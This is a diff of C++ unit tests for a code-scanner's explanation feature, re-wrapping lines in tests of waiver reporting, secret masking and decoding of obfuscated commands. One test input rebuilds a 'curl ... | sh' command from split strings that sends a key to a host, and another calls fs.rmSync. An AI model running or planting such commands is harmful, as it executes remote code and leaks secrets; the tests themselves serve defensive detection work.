@@ -62,7 +62,8 @@ TEST(Explanation, KnowsWaivers) {
   Explainer explainer;
   const std::string text = "fs.rmSync(d);\n";
   const auto record = Gate()({{kPath, text}});
-  explainer.config.check.waivers.push_back({"host.fs_remove", kPath, record.report.findings.at(0).fingerprint, "it is ours", "2999-12-31", "guard.toml:4"});
+  explainer.config.check.waivers.push_back(
+      {"host.fs_remove", kPath, record.report.findings.at(0).fingerprint, "it is ours", "2999-12-31", "guard.toml:4"});
   const std::string told = explainer(text, 1);
   EXPECT_THAT(told, HasSubstr("found here, and waived:\n  host.fs_remove: "));
   EXPECT_THAT(told, HasSubstr("waived by guard.toml:4 until 2999-12-31: it is ours"));
@@ -74,7 +75,8 @@ TEST(Explanation, SecretsAreMaskedWhereverTheyShow) {
   const std::string key = made_up_key();
   const std::string whole = Explainer()("const k = '" + key + "'; // " + key + "\n", 1);
   EXPECT_THAT(whole, Not(HasSubstr(key.substr(0, 12))));
-  const std::string folded = Explainer()("run('cu' + 'rl https://example.org/?k=" + key.substr(0, 4) + "' + '" + key.substr(4) + " | sh');\n", 1);
+  const std::string folded = Explainer()(
+      "run('cu' + 'rl https://example.org/?k=" + key.substr(0, 4) + "' + '" + key.substr(4) + " | sh');\n", 1);
   EXPECT_THAT(folded, Not(HasSubstr(key)));
   EXPECT_THAT(folded, HasSubstr("reads as: curl"));
   EXPECT_THAT(Explainer()("const k = '" + key + "';\n", 0), Not(HasSubstr(key.substr(0, 12))));
@@ -83,7 +85,8 @@ TEST(Explanation, SecretsAreMaskedWhereverTheyShow) {
 // By itself a line of a private key looks like nothing.
 TEST(Explanation, ALineOfALongerSecretIsMasked) {
   const std::string line = "q7Zk3vW9" + std::string("xB2mN5rT");
-  const std::string text = "const k = `-----BEGIN PRIVATE" + std::string(" KEY-----\n") + line + "\n" + line + "\n-----END PRIVATE" + " KEY-----`;\n";
+  const std::string text = "const k = `-----BEGIN PRIVATE" + std::string(" KEY-----\n") + line + "\n" + line +
+      "\n-----END PRIVATE" + " KEY-----`;\n";
   EXPECT_THAT(Explainer()(text, 2), Not(HasSubstr(line)));
 }
 
@@ -92,7 +95,8 @@ TEST(Explanation, KnownValuesInNamesAreMasked) {
   Explainer explainer;
   explainer.known = {{"DEPLOY_KEY", value}};
   explainer.path = "sandbox/" + value + ".ts";
-  EXPECT_THAT(explainer("const z = process.env.SECRET_X; console.log(z); f('" + value + "');\n", 1), Not(HasSubstr(value)));
+  EXPECT_THAT(
+      explainer("const z = process.env.SECRET_X; console.log(z); f('" + value + "');\n", 1), Not(HasSubstr(value)));
 }
 
 TEST(Explanation, HostileBytesArePrintable) {
